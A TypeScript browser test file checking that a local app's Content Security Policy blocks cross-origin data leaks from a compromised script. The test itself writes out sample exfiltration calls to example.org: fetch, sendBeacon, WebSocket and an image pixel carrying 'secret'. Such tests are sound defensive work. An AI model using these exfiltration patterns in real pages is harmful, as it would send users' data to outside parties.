import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch } from './browser.js';
import { serveLocalOnly } from './local-server.js';

/*
 * SECURITY-CONTROLS 41: the CSP does not only stay unbroken by the app (local-mode.test.ts), it
 * stops a script in the page — a compromised dependency, say — that tries to send data elsewhere.
 */
describe('the page cannot send anything to another origin', () => {
  let srv: Awaited<ReturnType<typeof serveLocalOnly>>;
  let browser: Browser;
  beforeAll(async () => {
    srv = await serveLocalOnly();
    browser = await launch();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await srv?.stop();
  });

  it('blocks fetch, a beacon, an image and a WebSocket to another origin, reporting each as a CSP violation', async () => {
    const page = await browser.newPage();
    // Chromium may start a request the CSP then refuses (an image): it must fail as blocked by the
    // CSP (Playwright says "csp"), and none may finish.
    const asked: string[] = [];
    const blocked: string[] = [];
    const answered: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(srv.origin)) asked.push(r.url());
    });
    page.on('requestfailed', (r) => {
      if (!r.url().startsWith(srv.origin)) blocked.push(`${r.failure()?.errorText} ${r.url()}`);
    });
    page.on('requestfinished', (r) => {
      if (!r.url().startsWith(srv.origin)) answered.push(r.url());
    });
    await page.goto(`${srv.origin}/`);
    await page.getByRole('heading', { name: 'Open a file' }).waitFor();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      const fetched = await fetch('https://example.org/collect?cell=secret').then(
        () => 'sent',
        () => 'blocked',
      );
      // sendBeacon only queues (true either way): the violation and the request log tell.
      navigator.sendBeacon('https://example.org/beacon', 'secret');
      const socket = await new Promise<string>((resolve) => {
        try {
          const ws = new WebSocket('wss://example.org/socket');
          ws.onopen = () => resolve('open');
          ws.onerror = () => resolve('blocked');
        } catch {
          resolve('blocked');
        }
      });
      const image = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = 'https://example.org/pixel.gif?cell=secret';
      });
      // Violation events are dispatched after the request is refused.
      await new Promise((r) => setTimeout(r, 500));
      return { fetched, socket, image, violations };
    });
    expect(outcome.fetched).toBe('blocked');
    expect(outcome.socket).toBe('blocked');
    expect(outcome.image).toBe('blocked');
    expect(outcome.violations, outcome.violations.join('\n')).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^connect-src https:\/\/example\.org\/collect/),
        expect.stringMatching(/^connect-src https:\/\/example\.org\/beacon/),
        expect.stringMatching(/^connect-src wss:\/\/example\.org/),
        expect.stringMatching(/^img-src https:\/\/example\.org/),
      ]),
    );
    expect(answered).toEqual([]);
    expect(blocked).toEqual(asked.map((url) => `csp ${url}`));
    await page.close();
  });
});
